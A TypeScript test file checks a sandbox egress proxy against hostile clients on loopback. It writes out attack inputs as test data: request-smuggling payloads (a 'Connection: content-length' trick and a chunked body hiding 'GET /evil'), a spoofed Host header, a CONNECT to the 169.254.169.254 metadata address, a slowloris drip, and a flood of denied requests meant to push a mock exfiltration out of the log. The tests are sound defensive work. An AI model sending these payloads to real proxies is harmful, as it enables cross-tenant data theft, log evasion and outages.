/**
 * The egress proxy (control-plane/egress/proxy.ts) against hostile clients, driven over its Unix
 * socket exactly as the sandbox agent's forwarder drives it: what a sandbox can send to
 * 127.0.0.1:3128 reaches this socket unchanged, so no container is needed.
 *
 * Every destination is a server this test starts on loopback (127.0.0.2). The resolver is a
 * stub: no DNS query leaves the machine.
 */
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import net, { type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EgressEvent } from '../contract/objects.js';
import { EgressProxy } from '../control-plane/egress/proxy.js';
import { loadConfig } from '../control-plane/config.js';
import { EgressLog, EGRESS_LOG_MAX } from '../control-plane/egress/store.js';
import { connectRedis, redisOptions } from '../control-plane/redis/connections.js';
import { REPO_ROOT, eventually, testIdentity } from './fixtures/index.js';

const run = promisify(execFile);

let dir: string;
let upstream: Server;
let port: number;
const seen: Array<{ url: string; host: string | undefined }> = [];
const events: EgressEvent[] = [];
let proxy: EgressProxy;
let socketPath: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'sbx-egress-proxy-'));
  upstream = createServer((req, res) => {
    seen.push({ url: req.url ?? '', host: req.headers.host });
    res.end('ok\n');
  });
  await new Promise<void>((r) => upstream.listen(0, '127.0.0.2', r));
  port = (upstream.address() as AddressInfo).port;
  proxy = new EgressProxy({
    // api.allowed.test "resolves" to the loopback test server; a cidr rule lets it be dialled.
    resolve: async (host) => (host === 'api.allowed.test' ? ['127.0.0.2'] : []),
    record: async (_lease, e) => void events.push(e),
    log: pino({ level: 'silent' }),
    headersTimeoutMs: 2000,
  });
  socketPath = join(dir, 'lease', 'proxy.sock');
  await proxy.serve(
    'sbx_hostile',
    [
      { host: 'api.allowed.test', ports: [port] },
      { cidr: '127.0.0.2/32', ports: [port] },
    ],
    socketPath,
  );
});

afterAll(async () => {
  await proxy?.close();
  upstream?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

/** Sends raw bytes on a fresh proxy connection; resolves with everything the proxy answered. */
function raw(bytes: string, path = socketPath): Promise<string> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    const c = net.connect(path, () => c.write(bytes));
    // Not end(): node:http drops a request whose client half-closed before the answer.
    setTimeout(() => c.destroy(), 3000);
    c.on('data', (d: Buffer) => chunks.push(d));
    c.on('close', () => resolve(Buffer.concat(chunks).toString('latin1')));
    c.on('error', reject);
  });
}

describe('a client that hangs up at once', () => {
  // After 'connect' node:http removes its own 'error' listener from the socket (documented): the
  // answer written to a client that already hung up fails with EPIPE, which must not throw.
  for (const target of ['denied.test:443', 'api.allowed.test:1', '169.254.169.254:80']) {
    it(`CONNECT ${target} + immediate close: the proxy process survives`, async () => {
      const script = join(dir, `crash-${target.replace(/[^a-z0-9]/gi, '_')}.mjs`);
      await writeFile(
        script,
        `
import net from 'node:net';
import pino from ${JSON.stringify(join(REPO_ROOT, 'node_modules/pino/pino.js'))};
import { EgressProxy } from ${JSON.stringify(join(REPO_ROOT, 'dist/control-plane/egress/proxy.js'))};
const sock = ${JSON.stringify(join(dir, 'crash'))} + '-' + process.pid + '/proxy.sock';
const proxy = new EgressProxy({ resolve: async () => ['127.0.0.2'], record: async () => {}, log: pino({ level: 'silent' }) });
await proxy.serve('sbx_crash', [{ host: 'api.allowed.test', ports: [443] }], sock);
for (let i = 0; i < 5; i++) {
  const c = net.connect(sock, () => { c.end('CONNECT ${target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); c.destroy(); });
  c.on('error', () => {});
}
setTimeout(() => { console.log('survived'); process.exit(0); }, 1500);
`,
      );
      const result = await run(process.execPath, [script]).then(
        (r) => ({ code: 0, out: r.stdout, err: r.stderr }),
        (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, out: e.stdout, err: e.stderr }),
      );
      expect(result.err).not.toMatch(/Unhandled 'error' event|EPIPE/);
      expect(result.out).toContain('survived');
      expect(result.code).toBe(0);
    });
  }
});

describe('plain-HTTP forwarding sets Host from the request target', () => {
  it('the upstream sees the Host of the request-target, not a Host the sandbox made up', async () => {
    const before = seen.length;
    const answer = await raw(
      `GET http://api.allowed.test:${port}/fronted HTTP/1.1\r\nHost: internal-admin.corp.example\r\nConnection: close\r\n\r\n`,
    );
    expect(answer).toMatch(/^HTTP\/1.1 200/);
    const got = seen.slice(before);
    expect(got).toHaveLength(1);
    // RFC 9112 §3.2.2: the authority of an absolute-form target replaces Host; a made-up Host
    // would reach another virtual host behind the same address (a shared CDN or ingress).
    expect(got[0]!.host).toBe(`api.allowed.test:${port}`);
  });

  it('a request with no Host at all is forwarded with the target authority as Host', async () => {
    const before = seen.length;
    const answer = await raw(`GET http://api.allowed.test:${port}/nohost HTTP/1.0\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1.1 200/);
    expect(seen.slice(before)[0]!.host).toBe(`api.allowed.test:${port}`);
  });
});

describe('slow clients', () => {
  it(
    'a connection that never finishes its request headers is closed once headersTimeoutMs passed, though it keeps sending',
    { timeout: 20_000 },
    async () => {
      const c = net.connect(socketPath);
      c.on('error', () => undefined);
      await new Promise((r) => c.once('connect', r));
      c.write('GET http://api.allowed.test/ HTTP/1.1\r\nX-Slow: ');
      const closed = new Promise<boolean>((r) => {
        c.once('close', () => r(true));
        setTimeout(() => r(false), 10_000);
      });
      // One byte every 500 ms keeps the header "in progress" (slowloris).
      const drip = setInterval(() => c.write('a'), 500);
      const wasClosed = await closed;
      clearInterval(drip);
      c.destroy();
      expect(wasClosed).toBe(true);
    },
  );
});

describe('the egress log under a flood', () => {
  it(
    'an allowed connection stays in the log after EGRESS_LOG_MAX denied requests, and the dropped denials are counted',
    { timeout: 120_000 },
    async () => {
      const config = loadConfig(process.env, REPO_ROOT);
      const redis = connectRedis(redisOptions(config.redis));
      // Under the run's prefix: the global teardown removes its keys.
      const { prefix } = testIdentity('egress-flood');
      const ledger = new EgressLog(redis, prefix);
      const flooded = new EgressProxy({
        resolve: async () => ['127.0.0.2'],
        record: (leaseId, e) => ledger.append(leaseId, e),
        log: pino({ level: 'silent' }),
      });
      const sock = join(dir, 'flood', 'proxy.sock');
      await flooded.serve(
        'sbx_flood',
        [
          { host: 'api.allowed.test', ports: [port] },
          { cidr: '127.0.0.2/32', ports: [port] },
        ],
        sock,
      );
      try {
        // The exfiltration: one allowed request.
        expect(
          await raw(`GET http://api.allowed.test:${port}/exfil?data=secret HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`, sock),
        ).toMatch(/^HTTP\/1.1 200/);
        // The cover-up: EGRESS_LOG_MAX denied requests, pipelined on a few keep-alive connections.
        const perConn = 1000;
        for (let sent = 0; sent < EGRESS_LOG_MAX; sent += perConn * 4) {
          await Promise.all(
            [0, 1, 2, 3].map(
              () =>
                new Promise<void>((resolve) => {
                  const c = net.connect(sock, () =>
                    c.write(
                      'GET http://nope.test/ HTTP/1.1\r\nHost: nope.test\r\n\r\n'.repeat(perConn - 1) +
                        'GET http://nope.test/ HTTP/1.1\r\nHost: nope.test\r\nConnection: close\r\n\r\n',
                    ),
                  );
                  c.on('data', () => undefined);
                  c.on('close', () => resolve());
                  c.on('error', () => resolve());
                }),
            ),
          );
        }
        // Records are appended as the proxy handles each request: wait until the last denial is in.
        const { events: log, dropped } = await eventually(
          () => ledger.read('sbx_flood'),
          (l) => l.events.filter((e) => e.decision === 'denied').length >= EGRESS_LOG_MAX,
          30_000,
        );
        expect(log.filter((e) => e.decision === 'denied').length).toBe(EGRESS_LOG_MAX);
        expect(log.some((e) => e.decision === 'allowed' && e.host === 'api.allowed.test')).toBe(true);
        expect(dropped.allowed).toBe(0);
        expect(dropped.denied + EGRESS_LOG_MAX).toBeGreaterThanOrEqual(EGRESS_LOG_MAX);
      } finally {
        await flooded.stop('sbx_flood');
        await redis.del(`${prefix}egress:sbx_flood:allowed`, `${prefix}egress:sbx_flood:denied`, `${prefix}egress:sbx_flood:dropped`);
        redis.disconnect();
      }
    },
  );
});

describe('request smuggling', () => {
  it("a Connection header naming Content-Length does not strip the body's framing: the upstream sees one request", async () => {
    const before = seen.length;
    const inner = `DELETE /smuggled HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n`;
    const answer = await raw(
      `GET http://api.allowed.test:${port}/open HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: content-length\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
    );
    expect(answer).toMatch(/^HTTP\/1\.1 200 /);
    expect(seen.slice(before).map((s) => s.url)).toEqual(['/open']);
  });

  // A chunked body on a GET, forwarded without framing, would reach the upstream as a second
  // request; on a pooled upstream connection its answer would go to the next lease's request.
  it(
    'lease B gets the answer to its own request, and the upstream never sees a request lease A did not send openly',
    { timeout: 20_000 },
    async () => {
      const hits: string[] = [];
      const slow = createServer((req, res) => {
        hits.push(req.url ?? '');
        setTimeout(() => res.end(`response for ${req.url}\n`), req.url === '/evil' ? 300 : 0);
      });
      await new Promise<void>((r) => slow.listen(0, '127.0.0.2', r));
      const slowPort = (slow.address() as AddressInfo).port;
      const rules = [
        { host: 'pkg.allowed.test', ports: [slowPort] },
        { cidr: '127.0.0.2/32', ports: [slowPort] },
      ];
      const shared = new EgressProxy({
        resolve: async () => ['127.0.0.2'],
        record: async (_l, e) => void events.push(e),
        log: pino({ level: 'silent' }),
      });
      const sockA = join(dir, 'tenant-a', 'proxy.sock');
      const sockB = join(dir, 'tenant-b', 'proxy.sock');
      await shared.serve('sbx_tenant_a', rules, sockA);
      await shared.serve('sbx_tenant_b', rules, sockB);
      const send = (sock: string, bytes: string, ms: number): Promise<string> =>
        new Promise((resolve) => {
          const out: Buffer[] = [];
          const c = net.connect(sock, () => c.write(bytes));
          c.on('data', (d: Buffer) => out.push(d));
          c.on('error', () => undefined);
          setTimeout(() => {
            c.destroy();
            resolve(Buffer.concat(out).toString('latin1'));
          }, ms);
        });
      try {
        const inner = 'GET /evil HTTP/1.1\r\nHost: pkg.allowed.test\r\n\r\n';
        const body = `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
        await send(
          sockA,
          `GET http://pkg.allowed.test:${slowPort}/a HTTP/1.1\r\nHost: pkg.allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n${body}`,
          100,
        );
        const b = await send(sockB, `GET http://pkg.allowed.test:${slowPort}/victim HTTP/1.1\r\nHost: pkg.allowed.test\r\n\r\n`, 1500);
        expect({ upstreamSawSmuggled: hits.includes('/evil'), bodyLeaseBGot: b.split('\r\n\r\n').pop() }).toEqual({
          upstreamSawSmuggled: false,
          bodyLeaseBGot: 'response for /victim\n',
        });
      } finally {
        await shared.close();
        slow.close();
      }
    },
  );
});
